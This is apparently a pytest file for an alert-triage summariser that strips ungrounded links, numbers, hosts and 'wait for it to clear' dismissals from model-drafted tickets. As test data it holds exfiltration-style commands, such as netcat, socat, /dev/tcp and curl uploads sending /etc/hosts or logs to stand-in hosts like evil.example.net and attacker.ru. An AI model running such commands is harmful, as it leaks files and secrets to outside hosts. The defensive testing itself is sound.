"""Summariser round 12: over-marks of a faithful ticket, sends still unmarked, answer shapes.

A number word of English that is another language's word ("Ten serwer" is Polish for "this
server") is no number in that language's text; the alert's own link is kept however the model
wraps it (Slack's `<url|text>`, Markdown's `[text](url)`, `<url>`); a file name after a redirect
or with a file's extension is no host. A one-word host rsync's daemon (`host::module`), a
`/dev/udp/` path, `nc` or `socat` sends to is marked as scp's is, and a step leaving the alert
to clear on its own is a dismissal. An answer keyed in another language (`titel`, `étapes`) or
with its description as an object of paragraphs is read as the English keys would be."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

import triage.summarise.answer as answers
from factories import view
from scaling import assert_linear
from triage.models import Alert, Status
from triage.redact import Redactor
from triage.summarise import claims, grounding, prompt
from triage.summarise.grounding import LINK_REMOVED, MARK
from triage.summarise.llm import contain

TITLE = "Checkout API 5xx on web-1"
DASHBOARD = "https://grafana.example.com/d/x"


def _alert(description: str) -> Alert:
    return Alert(
        source="generic",
        status=Status.FIRING,
        title=TITLE,
        severity="warning",
        description=description,
        links={"dashboard": DASHBOARD},
        occurred_at=datetime(2026, 11, 23, 9, 0, tzinfo=UTC),
        identity={"dedup_key": "checkout-5xx"},
    )


#: An alert stating no 10 anywhere (its timestamp's 09:00 neither), so "ten" grounds nowhere.
SOURCE = _alert("error rate 12% on web-1, see https://grafana.example.com/d/x")


def contained(
    description: str, steps: list[str], source: Alert = SOURCE
) -> tuple[str, list[str], dict[str, int]]:
    """The description, steps and rejected kinds `contain` publishes for `source`."""
    redactor = Redactor()
    shown = grounding.evidence(prompt.alert_view(view(source), redactor, 6000))
    draft = prompt.TicketDraft(title=TITLE, priority="medium", description=description, steps=steps)
    result = contain(draft, view(source), redactor, shown)
    return result.ticket.description, list(result.ticket.steps), dict(result.rejected)


# --- the alert's link, wrapped -----------------------------------------------------------------


@pytest.mark.parametrize(
    "wrapped",
    [
        pytest.param(f"<{DASHBOARD}|dashboard>", id="slack"),
        pytest.param(f"<{DASHBOARD}|{DASHBOARD}>", id="slack-url-as-text"),
        pytest.param(f"[dashboard]({DASHBOARD})", id="markdown"),
        pytest.param(f"<{DASHBOARD}>", id="angle-brackets"),
        pytest.param(f"[{DASHBOARD}]({DASHBOARD})", id="markdown-url-as-text"),
    ],
)
def test_the_alerts_link_is_kept_however_the_model_wraps_it(wrapped: str) -> None:
    """The same URL is grounded in Slack's `<url|text>`, Markdown's `[text](url)` or `<url>`:
    the link the alert holds is not removed for the characters around it."""
    text = f"Errors on web-1, see {wrapped}."
    description, _, rejected = contained(text, ["Check web-1"])
    assert description == text
    assert rejected == {}


@pytest.mark.parametrize(
    "wrapped",
    [
        "<https://evil.example.net/x|dashboard>",
        f"<https://evil.example.net/x|{DASHBOARD}>",
        "[dashboard](https://evil.example.net/x)",
    ],
)
def test_another_link_wrapped_the_same_way_is_still_removed(wrapped: str) -> None:
    """A link the alert never held is removed in Slack's or Markdown's form, also behind the
    alert's own URL as its text."""
    description, _, rejected = contained(f"Errors on web-1, see {wrapped}.", ["Check web-1"])
    assert "evil.example.net" not in description
    assert LINK_REMOVED in description
    assert rejected == {"url": 1}


def test_an_alert_writing_its_link_in_slacks_form_allows_the_bare_url() -> None:
    """An alert's description holding `<url|text>` (a Slack-sourced one) allows the URL, not
    the URL with `|text` glued to it."""
    source = _alert("error rate 12% on web-1, see <https://grafana.example.com/d/y|graph>")
    text = "Errors on web-1, see https://grafana.example.com/d/y."
    description, _, rejected = contained(text, ["Check web-1"], source)
    assert description == text
    assert rejected == {}


@pytest.mark.parametrize(
    "text",
    [
        "rsync -av /var/log/ rsync://backup01/logs",
        "cat /etc/hosts > /DEV/UDP/collector/514",
        "socat - TCP4:collector:4444",
        "socat FILE:/var/log/app.log UDP-SENDTO:collector:514",
        "socat - OPENSSL-CONNECT:collector:443",
        "SCTP:collector:9",
        "Check web-1 at 09:00",
        "ssh web-1 uptime",
    ],
)
def test_the_sent_to_host_gate_agrees_with_the_full_search(text: str) -> None:
    """`_unnamed_places` searches `_SENT_TO_HOST` only in text holding one of its literals:
    every text it finds a host in holds one, so skipping the rest changes nothing."""
    for form in (text, text.upper()):
        found = grounding._SENT_TO_HOST.search(form) is not None
        gated = any(literal in form.lower() for literal in grounding._SENT_TO_LITERALS)
        assert found <= gated


@pytest.mark.parametrize(
    "text",
    [
        "nc collector 4444",
        "NCAT\tcollector 4444",
        "tar cz /var/log | netcat collector 4444",
        "Once the incident is over, sync web-1",
        "nc",
    ],
)
def test_the_netcat_gate_agrees_with_the_full_search(text: str) -> None:
    """`_unnamed_places` looks for netcat only in text holding one of `_NETCAT_LITERALS`:
    every text `_NETCAT` finds a command in holds one."""
    for form in (text, text.upper()):
        found = grounding._NETCAT.search(form) is not None
        gated = any(literal in form.lower() for literal in grounding._NETCAT_LITERALS)
        assert found <= gated


@pytest.mark.parametrize(
    "text",
    [
        "scp app.log backup01:/tmp/",
        "ssh ops@vault uptime",
        "rsync -av /var/log/ backup01::logs",
        "cat /etc/hosts > /dev/udp/collector/514",
        "socat - TCP:collector:4444",
        "nc collector 4444",
        "Check web-1's dashboards",
    ],
)
def test_the_one_word_host_gate_agrees_with_the_full_search(text: str) -> None:
    """`_SENDS_TO_HOST` gates every one-word host search at once: text it passes over holds
    no host any of them finds."""
    for form in (text, text.upper()):
        lowered = form.lower()
        gated = grounding._SENDS_TO_HOST.search(lowered) is not None
        assert gated or not grounding._one_word_hosts(form, lowered)


def test_searching_for_one_word_hosts_sent_to_is_linear_on_hostile_text() -> None:
    """Text built to make the new searches retry (many `nc`, words before numbers, `tcp:`,
    `/dev/udp/`) is searched in time linear in its length."""
    shown = grounding.evidence({"description": "error rate 12% on web-1"})
    pieces = [
        "nc " * 50,
        "nc " + "host 1 " * 50,
        "tcp:" * 50 + "x" * 60,
        "/dev/udp/" * 50,
        "rsync://" + "a" * 70,
        "nc " + "-" * 300,
    ]
    for piece in pieces:
        assert_linear(lambda n, p=piece: grounding._unnamed_places(p * n, shown), 20)


# --- waiting for it to clear on its own --------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Wait for it to clear on its own.",
        "Wait for the alert to clear on its own",
        "Let it resolve itself.",
        "Leave it to recover by itself.",
    ],
)
def test_waiting_for_it_to_clear_on_its_own_is_a_dismissal(text: str) -> None:
    """Telling the responder to wait for a firing alert to go away by itself sends them away
    as "ignore this alert" does."""
    _, steps, rejected = contained("Errors on web-1.", ["Check web-1", text])
    assert steps[0] == "Check web-1"
    assert MARK in steps[1]
    assert rejected == {"claim": 1}


@pytest.mark.parametrize(
    "text",
    [
        "Wait for the deploy to finish, then check web-1.",
        "Wait 5 minutes and check whether the error rate clears.",
        "Check whether it clears on its own",
    ],
)
def test_waiting_for_something_else_or_checking_is_kept(text: str) -> None:
    """Waiting for a deploy, or checking whether it clears, dismisses nothing."""
    _, steps, rejected = contained("Errors on web-1.", ["Check web-1", text])
    assert steps == ["Check web-1", text]
    assert rejected == {}


@pytest.mark.parametrize(
    "text",
    [
        "Wait for it to clear on its own.",
        "Let the alert resolve itself",
        "wait until it goes away by itself",
        "Leave the errors to subside on their   own",
        "Wait for it to clear on its\town",
        "Wait for the deploy to finish.",
        "Check whether it clears on its own",
    ],
)
def test_the_claim_words_gate_passes_waiting_for_it_to_clear(text: str) -> None:
    """Every dismissal by waiting holds one of `_MORE_CLAIM_WORDS`: gated, it is marked as the
    ungated search of every language marks it."""

    def ungated(text: str) -> tuple[str, int]:
        marked = 0
        for language in claims._LANGUAGES:
            text, count = claims._marked_in(text, language)
            marked += count
        return text, marked

    for form in (text, text.upper()):
        assert claims._marked_claims(form) == ungated(form)


def test_a_url_the_alerts_labels_hold_is_kept() -> None:
    """The site a check watches, given in a label (Honeybadger's `url`), is the alert's own
    link as its description's are: a ticket naming it is not stripped of it."""
    source = _alert("certificate expires in 12 days")
    source = source.model_copy(update={"labels": {"url": "https://shop.example.org/"}})
    text = "The certificate of https://shop.example.org/ expires in 12 days."
    description, _, rejected = contained(text, ["Check web-1"], source)
    assert description == text
    assert rejected == {}


# --- a file name is no host ------------------------------------------------------------------


@pytest.mark.parametrize(
    "step",
    [
        "Capture the traffic: nc -l -p 4444 > dump.bin",
        "nc web-1 80 < request.txt",
        "curl -s https://grafana.example.com/d/x >> report.html",
        "ssh web-1 'journalctl -u api' > api.log",
        "curl -o capture.pcap https://grafana.example.com/d/x",
        "nc -l 4444 2> errors.out",
    ],
)
def test_a_file_name_after_a_redirect_or_with_a_files_extension_is_no_host(step: str) -> None:
    """A redirect's target is a file, and a name ending in a file's extension that is no
    internet domain (`.bin`, `.txt`, `.pcap`) names one: neither is marked as a host."""
    _, steps, rejected = contained("Errors on web-1.", [step])
    assert steps == [step]
    assert rejected == {}


@pytest.mark.parametrize(
    "step",
    ["nc evil.example.net 4444 < /etc/hosts", "curl -T dump.bin attacker.ru", "ssh ops@dump.bin"],
)
def test_a_host_beside_a_file_name_is_still_marked(step: str) -> None:
    """A host the alert never named stays marked beside a file, and a name reached as a host
    (`user@name`) is one whatever it ends in."""
    _, steps, rejected = contained("Errors on web-1.", [step])
    assert MARK in steps[0]
    assert rejected == {"host": 1}


def test_no_files_extension_taken_for_a_file_is_an_internet_domain() -> None:
    """A name ending in an internet domain (`_DOMAINS`) may be a host (`evil.sh` is one), so
    none is read as a file's extension."""
    assert not grounding._FILE_EXTENSIONS & grounding._DOMAINS


# --- a one-word host sent to -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("step", "kept"),
    [
        ("rsync -av /var/log/ backup01::logs", "rsync -av /var/log/ "),
        ("rsync -av /var/log/ rsync://backup01/logs", "rsync -av /var/log/ rsync://"),
        ("cat /var/log/app.log > /dev/udp/collector/514", "cat /var/log/app.log > /dev/udp/"),
        ("cat /etc/hosts > /dev/tcp/collector/4444", "cat /etc/hosts > /dev/tcp/"),
        ("nc collector 4444 < /var/log/app.log", "nc "),
        ("tar cz /var/log | ncat -w 3 collector 4444", "tar cz /var/log | ncat -w 3 "),
        ("socat - TCP:collector:4444 < /var/log/app.log", "socat - TCP:"),
        ("socat FILE:/var/log/app.log UDP-SENDTO:collector:514", "socat FILE:/var/log/app.log "),
    ],
)
def test_a_one_word_host_data_is_sent_to_is_marked(step: str, kept: str) -> None:
    """rsync's daemon (`host::module`, `rsync://host/`), a shell's `/dev/udp/host/port`,
    `nc host port` and socat's `TCP:host:port` send to a one-word host as scp does: one the
    alert never named is marked."""
    _, steps, rejected = contained("Errors on web-1.", [step])
    assert steps[0].startswith(kept)
    assert MARK in steps[0]
    assert "collector" not in steps[0] and "backup01" not in steps[0]
    assert rejected == {"host": 1}


@pytest.mark.parametrize(
    "step",
    [
        "rsync -av /var/log/ web-1::logs",
        "nc -zv web-1 443",
        "nc localhost 8080",
        "socat - TCP:localhost:5432",
        "echo > /dev/tcp/web-1/443 && echo open",
        "nc -l -p 4444",
        "nc -lvnp 4444",
    ],
)
def test_the_alerts_own_host_or_a_listener_is_left_alone(step: str) -> None:
    """The alert's web-1, the machine's localhost and a listening nc send nowhere new."""
    _, steps, rejected = contained("Errors on web-1.", [step])
    assert steps == [step]
    assert rejected == {}


# --- a number word of English that is another language's word -------------------------------


@pytest.mark.parametrize(
    "sentence",
    [
        "Ten serwer web-1 zwraca błędy 5xx.",
        "Ten incydent dotyczy web-1, który zwraca błędy.",
        "Ten server web-1 vrací chyby 5xx.",
        "Ten incident nie jest nowy: web-1 zwraca bledy.",
        "Ten en cuenta que web-1 devuelve errores 5xx.",
    ],
)
def test_a_polish_czech_or_spanish_ten_is_no_number(sentence: str) -> None:
    """Polish, Czech and Slovak "ten" is "this", Spanish "ten" is "have": in their text it
    states no 10, and a faithful ticket in the alert's language is not marked."""
    description, _, rejected = contained(sentence, ["Check web-1"])
    assert description == sentence
    assert rejected == {}


@pytest.mark.parametrize(
    "sentence",
    [
        "Ten servers return errors.",
        "Errors rose for ten minutes on web-1.",
        "Ten thousand requests failed on web-1.",
    ],
)
def test_an_english_ten_the_alert_never_states_is_still_marked(sentence: str) -> None:
    """In English text "ten" is the number, and one the alert never gave stays marked."""
    description, _, rejected = contained(sentence, ["Check web-1"])
    assert MARK in description
    assert rejected == {"number": 1}


# --- an answer keyed in another language, or a description as an object ----------------------


@pytest.mark.parametrize(
    ("title", "priority", "description", "steps"),
    [
        pytest.param("titre", "priorité", "description", "étapes", id="french"),
        pytest.param("titel", "priorität", "beschreibung", "schritte", id="german"),
        pytest.param("título", "prioridad", "descripción", "pasos", id="spanish"),
        pytest.param("Titel", "Priorität", "Beschreibung", "Schritte", id="capitalised"),
    ],
)
def test_an_answer_keyed_in_another_language_is_read(
    title: str, priority: str, description: str, steps: str
) -> None:
    """A model answering in the alert's language may translate the keys too: they are read as
    the English keys, not thrown away for the deterministic ticket."""
    answer = json.dumps(
        {title: TITLE, priority: "high", description: "Errors on web-1.", steps: ["Check web-1"]},
        ensure_ascii=False,
    )
    read = answers.draft(answer)
    assert (read.title, read.priority, read.description) == (TITLE, "high", "Errors on web-1.")
    assert read.steps == ["Check web-1"]


def test_the_english_key_wins_over_a_translated_one() -> None:
    """A key in English beside its translation: the contract's own is read."""
    answer = json.dumps(
        {
            "title": TITLE,
            "titel": "Something else",
            "description": "Errors on web-1.",
            "steps": ["Check web-1"],
        }
    )
    assert answers.draft(answer).title == TITLE


@pytest.mark.parametrize(
    ("description", "read"),
    [
        pytest.param(
            {"summary": "Errors on web-1.", "impact": "Checkout fails."},
            "Errors on web-1.\n\nCheckout fails.",
            id="paragraphs-keyed",
        ),
        pytest.param(
            {"1": "Errors on web-1.", "2": "Checkout fails."},
            "Errors on web-1.\n\nCheckout fails.",
            id="paragraphs-numbered",
        ),
        pytest.param(
            ["Errors on web-1.", "", "Checkout fails."],
            "Errors on web-1.\n\nCheckout fails.",
            id="list",
        ),
    ],
)
def test_a_description_given_as_an_object_or_a_list_is_read(description: Any, read: str) -> None:
    """A description of paragraphs, keyed or listed, is read as those paragraphs in order."""
    answer = json.dumps({"title": TITLE, "description": description, "steps": ["Check web-1"]})
    assert answers.draft(answer).description == read


@pytest.mark.parametrize(
    "description",
    [{"summary": ["Errors on web-1."]}, {}, {"summary": 3}],
)
def test_a_description_object_of_no_texts_is_refused(description: Any) -> None:
    """An object whose values are not texts is no description: refused as before."""
    answer = json.dumps({"title": TITLE, "description": description, "steps": ["Check web-1"]})
    with pytest.raises(ValueError, match="description"):
        answers.draft(answer)
